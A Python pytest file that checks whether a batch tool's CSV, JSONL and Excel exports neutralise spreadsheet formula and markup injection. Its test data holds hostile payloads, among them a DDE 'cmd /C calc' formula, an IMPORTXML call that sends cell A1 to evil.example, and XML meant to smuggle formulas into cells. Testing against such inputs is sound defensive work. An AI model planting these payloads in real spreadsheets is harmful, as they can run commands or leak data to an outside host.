"""No text from anywhere becomes a formula, a link or markup, and none is lost."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from seedance_batch.core.attempt import Phase
from seedance_batch.core.columns import unguarded, was_altered
from seedance_batch.core.outcome import Outcome, outcomes
from seedance_batch.writer.files import write_sheets

from .office import converted
from .samples import attempt, row, source

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\r\n",
    " ",
    "'",
    "''",
    "＝",
    "＋",
    "－",
    "＠",
    "\x00",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","click")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "=DDE('server','file','item')",
    "{=1+1}",
]
SEPARATORS = [
    '"=1+1"',
    '","=1+1',
    '";"=1+1',
    ";=1+1",
    ",=1+1",
    "\t=1+1\t",
    '"\n=1+1',
    "a\n=1+1",
    "|=1",
]
MARKUP = [
    "<r><t>=1+1</t></r>",
    "<r></t></is></c><c r='A9'><f>1+1</f></c></r>",
    "_x003D_1+1",
    "&#61;1+1",
    "<![CDATA[=1+1]]>",
    "https://evil.example",
    "mailto:a@evil.example",
    "internal:results!A1",
    "external:\\\\evil\\share",
]
HOSTILE = [
    *(start + text for start in STARTS for text in FORMULAS[:2]),
    *FORMULAS,
    *SEPARATORS,
    *MARKUP,
]


def hostile_outcomes() -> list[Outcome]:
    """Each text as prompt, as a cell of a column of the person's, and in the service's words."""
    rows = [row(n, prompt=text, note=text) for n, text in enumerate(HOSTILE, 1)]
    return outcomes(
        rows,
        [
            attempt(of, Phase.FAILED, task_id=text, error_code=None, error_message=text)
            for of, text in zip(rows, HOSTILE, strict=True)
        ],
    )


HEADINGS = ["prompt", "note", "=1+1", "<r><t>x</t></r>", "@SUM(1)"]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    write_sheets(source(folder, hostile_outcomes(), columns=HEADINGS))
    return folder


def test_no_cell_of_a_csv_begins_like_a_formula(folder: Path) -> None:
    for name in ("results.csv", "failed.csv"):
        with (folder / name).open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for line in csv.reader(file) for cell in line]
        assert not [cell for cell in cells if cell.lstrip(" ")[:1] in tuple("=+-@\t\r\n＝＋－＠\0")]


def test_the_csv_gives_every_text_back(folder: Path) -> None:
    with (folder / "results.csv").open(encoding="utf-8-sig", newline="") as file:
        header, *lines = csv.reader(file)
    assert HEADINGS == [unguarded(heading) for heading in header[: len(HEADINGS)]]
    assert [[text, text] for text in HOSTILE] == [[*map(unguarded, line[:2])] for line in lines]


def test_the_jsonl_gives_every_text_back(folder: Path) -> None:
    text = (folder / "results.jsonl").read_text("utf-8")
    lines = [json.loads(line) for line in text.splitlines()]
    assert HOSTILE == [line["prompt"] for line in lines]
    assert HEADINGS == list(lines[0])[: len(HEADINGS)]


@pytest.mark.parametrize("name", ["results.xlsx", "failed.xlsx"])
def test_a_workbook_has_no_formula_no_foreign_link_and_no_markup(folder: Path, name: str) -> None:
    for sheet in load_workbook(folder / name).worksheets:
        for cell in (cell for line in sheet.iter_rows() for cell in line):
            assert cell.data_type in {"s", "n"}
            assert cell.hyperlink is None
    with zipfile.ZipFile(folder / name) as book:
        for part in book.namelist():
            assert b"<f>" not in book.read(part)


def test_the_workbook_gives_every_text_back_or_says_that_it_cannot(folder: Path) -> None:
    book = CalamineWorkbook.from_path(folder / "results.xlsx")
    _, *lines = book.get_sheet_by_index(0).to_python()
    markup = [text for text in HOSTILE if text.startswith("<r>") and text.endswith("</r>")]
    for text, line in zip(HOSTILE, lines, strict=True):
        assert was_altered(str(line[0])) if text in markup else [text, text] == line[:2]


def test_libreoffice_finds_no_formula_in_any_sheet(folder: Path, tmp_path: Path) -> None:
    for name in ("results.xlsx", "results.csv"):
        document = converted(folder / name, "fods", tmp_path / name)
        assert "table:formula" not in document
        assert document.count("=1+1") > len(HOSTILE) / 2
